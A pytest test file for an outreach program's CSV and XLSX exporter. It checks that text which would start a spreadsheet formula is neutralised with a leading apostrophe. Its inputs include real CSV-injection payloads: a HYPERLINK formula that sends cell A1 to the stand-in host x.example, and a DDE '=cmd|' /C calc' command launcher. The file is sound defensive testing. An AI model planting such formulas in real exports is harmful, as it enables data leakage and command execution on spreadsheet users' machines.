"""CSV exports never hand a spreadsheet a formula: text that would start one gets a
leading ' (OWASP); real numbers stay numbers; XLSX cells stay strings."""

from __future__ import annotations

import csv
import io

import pytest

from debc_outreach.reports.csv_export import neutralised

VILLAGE = "12010101"
HYPERLINK = '=HYPERLINK("http://x.example/?q="&A1,"click")'
TYPED = (HYPERLINK, "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1,2)")
ATTACKS = (*TYPED, "\t=1+1", "\r=1+1")


def _read(path) -> list[dict]:
    return list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8-sig"))))


@pytest.mark.parametrize("text", ATTACKS)
def test_text_that_would_start_a_formula_gets_a_leading_quote(text):
    assert neutralised(text) == "'" + text


@pytest.mark.parametrize("value", ["-12", "+3.5", "-0.25", "12", "Sok Dara", "ស៊ុន", "", 7,
                                   -3, 2.5, "a=b", "'=already"])
def test_numbers_and_plain_text_are_untouched(value):
    assert neutralised(value) == value


def _programme_with_attacker(run_cli) -> tuple[str, str]:
    """One session with a formula venue and people whose names are formulas."""
    code, out, err = run_cli("session", "create", "--date", "2026-03-08", "--village", VILLAGE,
                             "--module", "passwords-pins-2step", "--venue", "=1+1")
    assert code == 0, err
    session = out.strip()
    for name in TYPED:
        code, out, err = run_cli("participants", "add", f"--name={name}", "--consent", "yes",
                                 "--village", VILLAGE)
        assert code == 0, err
        assert run_cli("session", "check-in", session, out.strip())[0] == 0
    return session, HYPERLINK


def test_attendance_participants_and_sessions_csv_hold_no_formula(run_cli, data_dir, tmp_path):
    _programme_with_attacker(run_cli)
    # Control characters cannot be typed into a name, but a record could carry one.
    from debc_outreach.storage.store import Store

    store = Store.open(data_dir)
    with store.database.conn:
        store.database.conn.execute("UPDATE participant SET display_name = char(9) || '=1+1' "
                                    "WHERE display_name = '+1+1'")
    store.close()
    for kind in ("attendance", "participants", "sessions"):
        path = tmp_path / f"{kind}.csv"
        code, _out, err = run_cli("export", kind, "--format", "csv", "-o", str(path),
                                  "--column-keys")
        assert code == 0, err
        for row in _read(path):
            for key, cell in row.items():
                assert not cell.startswith(("=", "+", "@", "\t", "\r")), (kind, key, cell)
                assert not cell.startswith("-") or cell.lstrip("-").replace(".", "").isdigit()
    attendance = _read(tmp_path / "attendance.csv")
    names = {row["name"] for row in attendance}
    assert {"'" + name for name in TYPED if name != "+1+1"} | {"'\t=1+1"} <= names
    assert {row["venue"] for row in attendance} == {"'=1+1"}
    assert "'" + HYPERLINK in {row["name"] for row in _read(tmp_path / "participants.csv")}
    assert {row["venue"] for row in _read(tmp_path / "sessions.csv")} == {"'=1+1"}


def test_counts_in_csv_stay_numbers(run_cli, tmp_path):
    _programme_with_attacker(run_cli)
    path = tmp_path / "sessions.csv"
    assert run_cli("export", "sessions", "--format", "csv", "-o", str(path),
                   "--column-keys")[0] == 0
    row = _read(path)[0]
    assert row["attendances"] == str(len(TYPED))


def test_xlsx_writes_formula_looking_text_as_strings(run_cli, tmp_path):
    openpyxl = pytest.importorskip("openpyxl")
    _programme_with_attacker(run_cli)
    path = tmp_path / "attendance.xlsx"
    code, _out, err = run_cli("export", "attendance", "--format", "xlsx", "-o", str(path))
    assert code == 0, err
    book = openpyxl.load_workbook(path)
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    texts = {cell.value for cell in cells if cell.data_type == "s"}
    assert HYPERLINK in texts and "=1+1" in texts
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]


TRICKY = ["=1+1", "-12", "+3.5", "-1.2.3", "-", "+", "-12a", "@", "\t-5", '=A1,"x"', "Sok, Dara",
          "-0.", "+.5", "ស៊ុន =1", "'=quoted"]


@pytest.mark.parametrize("people_formatted_once", [250_000, 0])
def test_the_fast_attendance_lines_follow_the_same_rule_as_other_csv(store, monkeypatch,
                                                                     people_formatted_once):
    """The attendance CSV is built inside SQLite for speed; it must neutralise exactly
    like `neutralised` does for every other CSV (each person's part made once, or at
    every check-in as for a file of many people)."""
    from support.reports_data import demo_programme

    from debc_outreach.reports import lookup, rows
    from debc_outreach.reports.filters import ReportFilter

    monkeypatch.setattr(rows, "PEOPLE_FORMATTED_ONCE", people_formatted_once)

    demo_programme(store, participants=60, sessions=4)
    ids = [row[0] for row in store.database.conn.execute(
        "SELECT DISTINCT p.id FROM participant p JOIN attendance a ON a.participant_id = p.id "
        "WHERE p.consent = 'yes' LIMIT ?", (len(TRICKY),))]
    assert len(ids) == len(TRICKY)
    with store.database.conn:
        store.database.conn.executemany("UPDATE participant SET display_name = ? WHERE id = ?",
                                        list(zip(TRICKY, ids, strict=True)))
    catalog, filt = lookup.catalog(None), ReportFilter()
    lines = [line for chunk in rows.attendance_csv_lines(store.database, filt, "en", catalog,
                                                         rows.Privacy()) for line in chunk]
    expected = [["" if v is None else str(neutralised(v)) for v in row]
                for chunk in rows.attendance_chunks(store.database, filt, "en", catalog,
                                                    rows.Privacy()) for row in chunk]
    assert list(csv.reader(io.StringIO(b"\r\n".join(lines).decode("utf-8")))) == expected
    names = {row[14] for row in expected}
    assert {"'=1+1", "-12", "+3.5", "'-1.2.3", "'-", "'+", "'-12a", "'@", "'\t-5",
            "-0.", "'+.5", "ស៊ុន =1", "'=quoted"} <= names
